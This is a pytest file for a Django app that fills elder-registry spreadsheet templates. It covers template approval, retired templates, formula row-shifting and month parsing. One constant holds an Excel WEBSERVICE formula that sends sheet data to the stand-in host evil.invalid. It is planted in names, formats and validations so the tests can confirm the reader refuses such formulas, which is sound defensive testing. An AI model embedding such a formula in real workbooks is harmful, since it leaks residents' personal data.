"""Sheets under attack: a template changed behind an approval, formulas hidden beside the cells; and what follows the row wherever it stands."""

import io
from typing import Any

import openpyxl
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from shequtong.accounts.testing import signed_in
from shequtong.interchange.models import Sheet
from shequtong.interchange.sheets_out.child import CannotReadSheet, looked
from shequtong.interchange.sheets_out.testing import saved, template_workbook
from shequtong.interchange.tests.sheets import (
    AT,
    BEFORE,
    SETTINGS,
    THIS,
    colour,
    elder,
    file,
    fill_address,
    fills,
    sends,
    sends_to,
    uploaded,
)
from shequtong.tasks.models import Task
from shequtong.tasks.testing import turn
from shequtong.testing.town import Town

pytestmark = pytest.mark.django_db(transaction=True)
OUT = '_xlfn.WEBSERVICE("http://evil.invalid/?"&老年人!$B$4)'


def book(cells: dict[str, Any] | None = None) -> Any:
    return openpyxl.load_workbook(io.BytesIO(template_workbook(cells)))


def test_what_was_approved_is_what_goes_out(town: Town) -> None:
    elder(town, "501", "王德发", 21, "16100000001")
    template = uploaded(town)
    asked = sends(town, "hu", fill_address(town, template), {"in_clear": "on"})["Location"]
    assert sends(town, "supervisor", asked, {"done": "yes"}).status_code == 302
    more = template_workbook({"C4": "{{身份证号码}}"})
    assert sends(town, "supervisor", f"{AT}templates/{template.pk}/", {**SETTINGS, **file(more)}).status_code == 302
    assert sends_to(town, asked, f"{asked}make/", "hu").status_code == 302
    assert turn() == 1
    task = Task.objects.get()
    assert (task.state, "重新申请" in task.error) == ("failed", True), task.error
    assert Sheet.objects.get().made_at is None
    assert fills(town, template)["老年人"]["C4"].value != "320599194105060213"  # asked again: masked, alone


def test_a_template_taken_out_of_use_meanwhile_is_not_filled(town: Town) -> None:
    elder(town, "501", "王德发", 21)
    template = uploaded(town)
    assert sends(town, "hu", fill_address(town, template)).status_code == 302
    one = f"{AT}templates/{template.pk}/"
    assert sends_to(town, one, f"{one}retire/").status_code == 302
    assert turn() == 1
    assert Task.objects.get().state == "failed"
    assert not Sheet.objects.exclude(snapshot="").exists()


@pytest.mark.parametrize("hidden", ["name", "name of the sheet", "format", "check"])
def test_a_formula_that_stands_in_no_cell_is_refused_too(hidden: str) -> None:
    made = book({"H1": "=out"})
    sheet = made["老年人"]
    if hidden == "name":
        made.defined_names["out"] = DefinedName("out", attr_text=OUT)
    elif hidden == "name of the sheet":
        sheet.defined_names["out"] = DefinedName("out", attr_text=OUT)
    elif hidden == "format":
        rule: Any = FormulaRule  # which tells no types
        sheet.conditional_formatting.add("A1:A9", rule(formula=[f'{OUT}="1"']))
    else:
        sheet.add_data_validation(DataValidation(type="custom", formula1=OUT, sqref="A1"))
    with pytest.raises(CannotReadSheet) as refused:
        looked(saved(made))
    assert "公式" in str(refused.value)


def test_words_to_choose_from_are_no_formula() -> None:
    made = book()
    made["老年人"].add_data_validation(DataValidation(type="list", formula1='"身高[cm],是|否"', sqref="E4"))
    assert looked(saved(made))["sheets"]


def test_formulas_on_other_worksheets_and_names_follow_the_rows(town: Town) -> None:
    for n, room in enumerate(("501", "502", "503")):
        elder(town, room, "王德发", 21 + 2 * n)
    made = book({"F4": "=A4/B$5", "G4": "=SUM(A4:A4)", "A9": "=SUM(老年人!A4:A4)"})
    other = made.create_sheet("汇总")
    other["A1"], other["A2"], other["A3"], other["A4"] = "=老年人!B5", "=SUM(老年人!$A$4:$A$4)", "=A5", "=SUM(名册)"
    made.defined_names["名册"] = DefinedName("名册", attr_text="老年人!$A$4:$A$4")
    out = fills(town, uploaded(town, saved(made)))
    assert [out["汇总"].cell(row, 1).value for row in range(1, 5)] == [
        "=老年人!B7",
        "=SUM(老年人!$A$4:$A$6)",
        "=A5",
        "=SUM(名册)",
    ]
    assert out.defined_names["名册"].attr_text == "老年人!$A$4:$A$6"
    sheet = out["老年人"]
    assert [sheet.cell(row, 6).value for row in (4, 5, 6)] == ["=A4/B$7", "=A5/B$7", "=A6/B$7"]
    assert [sheet.cell(row, 7).value for row in (4, 5, 6)] == ["=SUM(A4:A4)", "=SUM(A5:A5)", "=SUM(A6:A6)"]
    assert sheet["A11"].value == "=SUM(老年人!A4:A6)"


def test_whole_rows_and_columns_follow_too(town: Town) -> None:
    for n, room in enumerate(("501", "502", "503")):
        elder(town, room, "王德发", 21 + 2 * n)
    made = book({"F4": "=COUNTA(4:4)", "A9": "=COUNTA(4:4)", "A10": "=COUNTA($1:$5)+COUNTA(5:6)+COUNTA(1:3)"})
    other = made.create_sheet("汇总")
    other["A1"], other["A2"] = "=COUNTA(老年人!$4:$4)+SUM(4:4)", "=COUNTA(老年人!B:B)+COUNTA(老年人!$A:$C)"
    out = fills(town, uploaded(town, saved(made)))
    sheet, other = out["老年人"], out["汇总"]
    assert [sheet.cell(row, 6).value for row in (4, 5, 6)] == ["=COUNTA(4:4)", "=COUNTA(5:5)", "=COUNTA(6:6)"]
    assert (sheet["A11"].value, sheet["A12"].value) == ("=COUNTA(4:6)", "=COUNTA($1:$7)+COUNTA(7:8)+COUNTA(1:3)")
    assert (other["A1"].value, other["A2"].value) == (
        "=COUNTA(老年人!$4:$6)+SUM(4:4)",
        "=COUNTA(老年人!B:B)+COUNTA(老年人!$A:$C)",
    )


def test_a_merged_heading_does_not_stop_what_changed_from_being_said(town: Town) -> None:
    elder(town, "501", "王德发", 21)
    made = book()
    made["老年人"].merge_cells("E3:G3")
    template = uploaded(town, saved(made))
    fills(town, template, BEFORE)
    elder(town, "502", "李四", 23)
    sheet = fills(town, template)["老年人"]
    assert (sheet["H3"].value, sheet["H5"].value, colour(sheet["H5"])) == ("变动", "新增", "E2F0D9")


@pytest.mark.parametrize("month", ["2026-" + "1" * 5000, "2026-1", "1999-12", "2026-１", "0000-01", "2026-00"])
def test_a_month_that_is_none_is_this_month(town: Town, month: str) -> None:
    page = signed_in(town.accounts["hu"]).get(AT, {"month": month})
    assert page.status_code == 200
    assert page.context["month"] == THIS
    assert not signed_in(town.accounts["hu"]).get(AT, {"month": "2000-01"}).context["board"].before
